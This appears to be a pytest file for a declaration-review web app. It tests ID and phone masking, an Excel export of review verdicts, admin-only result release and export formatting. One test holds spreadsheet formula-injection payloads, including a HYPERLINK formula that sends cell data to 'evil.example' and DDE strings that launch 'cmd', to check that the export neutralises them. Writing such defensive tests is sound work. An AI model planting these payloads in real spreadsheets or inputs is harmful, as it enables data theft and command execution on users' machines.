from io import BytesIO

import pytest
from openpyxl import load_workbook

from accounts.masking import mask_id_number, mask_phone
from declarations.workflow import Decision
from review import decisions as review_decisions
from review.models import ReviewStage
from review.tests.factories import all_pass, failing, make_round, reviewer, submitted_declaration

pytestmark = pytest.mark.django_db


def test_mask_id_number_keeps_four_characters_at_each_end():
    assert mask_id_number("140105198503120018") == "1401**********0018"
    assert mask_id_number("11010519491231002X") == "1101**********002X"
    assert mask_id_number("") == ""


def test_mask_phone_keeps_prefix_and_last_four_digits():
    assert mask_phone("+8613800000123") == "138****0123"
    assert mask_phone("13912345678") == "139****5678"
    assert mask_phone(None) == ""


def test_round_export_holds_declarations_stages_verdicts_and_decisions(client):
    declaration_round = make_round(("初审", "复审"))
    declaration = submitted_declaration(declaration_round, real_name="赵工程", id_number="140105198503120018")
    first = ReviewStage.objects.get(round=declaration_round, order=1)
    second = ReviewStage.objects.get(round=declaration_round, order=2)
    review_decisions.decide(declaration.pk, first.pk, reviewer(real_name="李审核"), all_pass(), Decision.PASS, "同意")
    review_decisions.decide(
        declaration.pk,
        second.pk,
        reviewer(real_name="王复审"),
        failing(papers="刊物不符"),
        Decision.FAIL,
        "论文不合格",
    )
    client.force_login(reviewer())
    response = client.get(f"/admin/review/rounds/{declaration_round.pk}/export.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = load_workbook(BytesIO(response.content))
    summary = workbook["申报与审核结论"]
    headers = [cell.value for cell in summary[1]]
    assert headers[:7] == ["序号", "申报人", "身份证号", "手机号码", "工作单位", "申报职称", "状态"]
    assert {"初审结论", "初审审核人", "复审结论", "复审意见"} <= set(headers)
    row = dict(zip(headers, [cell.value for cell in summary[2]], strict=True))
    assert row["申报人"] == "赵工程"
    assert row["身份证号"] == "1401**********0018"
    assert (row["初审结论"], row["初审审核人"]) == ("通过", "李审核")
    assert (row["复审结论"], row["复审意见"]) == ("不通过", "论文不合格")
    verdicts = [[cell.value for cell in r] for r in workbook["栏目审核意见"].iter_rows(min_row=2)]
    assert len(verdicts) == 22
    assert ["赵工程", "1401**********0018", 1, "复审", "王复审", "2.2.7 论文", "不通过", "刊物不符"] in verdicts
    assert "140105198503120018" not in str([[c.value for c in r] for r in summary.iter_rows()])


def test_round_release_button_is_for_administrators_only(client):
    declaration_round = make_round()
    client.force_login(reviewer())
    response = client.post(f"/admin/review/rounds/{declaration_round.pk}/release/")
    assert response.status_code in (302, 403)
    assert response.get("Location") in (None, "/admin/")


def test_administrator_release_button_refuses_before_the_release_time(admin_client):
    declaration_round = make_round()
    response = admin_client.post(
        f"/admin/review/rounds/{declaration_round.pk}/release/", {"confirmed_total": "0"}, follow=True
    )
    assert "尚未到审核结果统一退回时间" in response.content.decode()


def test_rounds_page_lists_stages_and_the_release_button_for_administrators(admin_client):
    make_round(("初审", "复审"))
    page = admin_client.get("/admin/review/rounds/").content.decode()
    assert "初审 → 复审" in page
    assert "统一退回审核结果" in page


def test_administrator_release_button_releases_a_due_round(admin_client):
    from declarations.round_phases import RoundPhase
    from declarations.tests.factories import move_to_phase
    from declarations.workflow import Status
    from review.tests.factories import decide_all

    declaration_round = make_round()
    declaration = submitted_declaration(declaration_round)
    decide_all(declaration, reviewer(), Decision.PASS)
    move_to_phase(declaration_round, RoundPhase.RELEASE_DUE)
    response = admin_client.post(
        f"/admin/review/rounds/{declaration_round.pk}/release/", {"confirmed_total": "1"}, follow=True
    )
    assert "已统一退回 1 份申报（通过 1" in response.content.decode()
    declaration.refresh_from_db()
    assert declaration.status == Status.PASSED


HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"点此查看")'


def test_formulas_typed_by_applicants_and_reviewers_are_plain_text_in_every_sheet(client):
    declaration_round = make_round(("初审",))
    stage = ReviewStage.objects.get(round=declaration_round)
    declaration = submitted_declaration(declaration_round, real_name=HYPERLINK, employer="+cmd|' /C calc'!A0")
    review_decisions.decide(
        declaration.pk,
        stage.pk,
        reviewer(real_name="@SUM(1+1)*cmd"),
        failing(papers="-2+3+cmd|' /C calc'!A0"),
        Decision.FAIL,
        "+SUM(A1:A9)",
    )
    client.force_login(reviewer())
    workbook = load_workbook(BytesIO(client.get(f"/admin/review/rounds/{declaration_round.pk}/export.xlsx").content))

    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet.title, cell.value)
                    texts.add((sheet.title, cell.value))
    assert {
        ("申报与审核结论", f"'{HYPERLINK}"),
        ("申报与审核结论", "'+cmd|' /C calc'!A0"),
        ("申报与审核结论", "'@SUM(1+1)*cmd"),
        ("申报与审核结论", "'+SUM(A1:A9)"),
        ("栏目审核意见", f"'{HYPERLINK}"),
        ("栏目审核意见", "'@SUM(1+1)*cmd"),
        ("栏目审核意见", "'-2+3+cmd|' /C calc'!A0"),
    } <= texts


def test_export_has_real_dates_the_full_title_and_round_fitted_columns_and_a_frozen_filtered_header(client):
    import datetime

    from django.utils import timezone

    declaration_round = make_round(("初审",))
    declaration = submitted_declaration(declaration_round, real_name="赵工程")
    client.force_login(reviewer())

    response = client.get(f"/admin/review/rounds/{declaration_round.pk}/export.xlsx")

    sheet = load_workbook(BytesIO(response.content))["申报与审核结论"]
    headers = [cell.value for cell in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))
    title = declaration.title
    assert [cells[name].value for name in ("申报批次", "职称系列", "专业", "级别", "申报职称")] == [
        declaration_round.name,
        title.series,
        title.specialty,
        title.get_level_display(),
        title.title_name,
    ]
    submitted = cells["提交时间"]
    assert isinstance(submitted.value, datetime.datetime)  # a date cell, not text
    local = timezone.make_naive(declaration.submitted_at, timezone.get_default_timezone())
    assert submitted.value == local.replace(microsecond=submitted.value.microsecond)
    assert submitted.number_format == "yyyy-mm-dd hh:mm"
    assert sheet.freeze_panes == "C2" and sheet.auto_filter.ref == sheet.dimensions
    assert all(cell.font.bold for cell in sheet[1])
    widths = {name: sheet.column_dimensions[cell.column_letter].width for name, cell in cells.items()}
    assert widths["序号"] < widths["工作单位"] and widths["提交时间"] >= 16
    assert widths["申报批次"] > len(declaration_round.name) > widths["序号"] - 2
    assert max(widths.values()) <= 60
